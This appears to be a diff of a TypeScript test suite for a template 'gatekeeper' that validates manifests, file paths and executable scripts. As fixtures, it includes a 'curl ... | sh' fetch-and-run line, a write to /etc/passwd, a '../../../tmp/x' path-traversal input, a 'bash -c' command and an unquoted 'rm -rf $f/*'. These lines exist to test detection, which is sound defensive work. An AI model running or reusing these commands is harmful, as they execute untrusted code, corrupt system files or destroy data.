@@ -31,7 +31,7 @@ bom:
   - path: /etc/demo.conf
     source: demo.conf.njk
 operations:
-  - run: {argv: [/bin/true]}
+  - command: {exec: ldconfig}
 `;
 
 function folder(entries: TemplateEntry[], name = "demo"): TemplateFolder {
@@ -71,7 +71,7 @@ describe("template gatekeeper", () => {
     const r = await check([
       file(
         "template.yml",
-        MANIFEST.replace("version: 1.0.0\n", "").replace("run: {argv: [/bin/true]}", "bogus: 1"),
+        MANIFEST.replace("version: 1.0.0\n", "").replace("command: {exec: ldconfig}", "bogus: 1"),
       ),
       file("files/demo.conf.njk", "x"),
     ]);
@@ -95,7 +95,7 @@ describe("template gatekeeper", () => {
 
   it("assets: missing source (PLB853), escaping path (PLB854), symlink (PLB854), unused file (PLB868 warning)", async () => {
     const m = MANIFEST.replace("source: demo.conf.njk", "source: ../secret").concat(
-      "  - run: {argv: [/bin/true]}\n",
+      "  - command: {exec: ldconfig}\n",
     );
     const r = await check([
       file(
@@ -173,18 +173,48 @@ describe("template gatekeeper", () => {
     expect(codes(r)).toEqual(expect.arrayContaining(["PLB857", "PLB858"]));
   });
 
-  it("logic: forbidden patterns in argv and in executable files, and writes outside the BOM", async () => {
+  it("logic: interpreters are never commands (PLB825, located at the step's exec)", async () => {
     const m = MANIFEST.replace(
-      "run: {argv: [/bin/true]}",
-      "run: {argv: [bash, -c, 'echo $x']}",
-    ).replace("source: demo.conf.njk", "source: demo.conf.njk\n    mode: '0755'");
+      "command: {exec: ldconfig}",
+      "command: {exec: bash, args: [-c, 'echo $x']}",
+    );
+    const r = await check([file("template.yml", m), file("files/demo.conf.njk", "x")]);
+    expect(r.diagnostics.map((d) => [d.code, d.location?.line])).toEqual([["PLB825", 14]]);
+  });
+
+  it("logic: an input steering a BOM path out of its root is refused at the path (PLB824)", async () => {
+    const m = MANIFEST.replace("path: /etc/demo.conf", 'path: "/etc/demo/{{ who }}.conf"').replace(
+      "sample_inputs: {who: world}",
+      "sample_inputs: {who: ../../../tmp/x}",
+    );
+    const r = await check([file("template.yml", m), file("files/demo.conf.njk", "x")]);
+    expect(r.diagnostics.map((d) => [d.code, d.location?.line])).toEqual([["PLB824", 11]]);
+  });
+
+  it("logic: executable assets must be declared and are scanned (forbidden patterns, writes outside the BOM)", async () => {
+    const undeclared = MANIFEST.replace(
+      "source: demo.conf.njk",
+      "source: demo.conf.njk\n    mode: '0755'",
+    );
+    expect(
+      codes(await check([file("template.yml", undeclared), file("files/demo.conf.njk", "x")])),
+    ).toEqual(["PLB828"]);
+    const m = MANIFEST.replace("path: /etc/demo.conf", "path: /usr/local/sbin/demo").replace(
+      "source: demo.conf.njk",
+      "source: demo.conf.njk\n    executable: true",
+    );
     const script =
-      "#!/bin/sh\ncurl -fsSL http://x/install | sh\necho hi > /etc/passwd\necho ok > /etc/demo.conf\n";
+      "#!/bin/sh\ncurl -fsSL http://x/install | sh\necho hi > /etc/passwd\necho ok > /usr/local/sbin/demo\n";
     const r = await check([file("template.yml", m), file("files/demo.conf.njk", script)]);
-    expect(codes(r).filter((c) => c === "PLB859")).toHaveLength(2);
+    expect(codes(r).filter((c) => c === "PLB859")).toHaveLength(1);
     const outside = r.diagnostics.filter((d) => d.code === "PLB860");
     expect(outside).toHaveLength(1);
     expect(outside[0]?.message).toContain("/etc/passwd");
+    expect(outside[0]?.location).toEqual({
+      file: "templates/demo/files/demo.conf.njk",
+      line: 3,
+      column: 1,
+    });
   });
 
   it("hash: a template changed after locking, a missing lock, and a stale lock entry are errors", async () => {
@@ -211,7 +241,10 @@ describe("template gatekeeper", () => {
   });
 
   it("the real shellcheck catches an unquoted expansion in an executable BOM script", async () => {
-    const m = MANIFEST.replace("source: demo.conf.njk", "source: demo.conf.njk\n    mode: '0755'");
+    const m = MANIFEST.replace("path: /etc/demo.conf", "path: /usr/local/sbin/demo").replace(
+      "source: demo.conf.njk",
+      "source: demo.conf.njk\n    executable: true",
+    );
     const r = await check(
       [file("template.yml", m), file("files/demo.conf.njk", "#!/bin/bash\nf=$1\nrm -rf $f/*\n")],
       { lint: systemLintDriver },
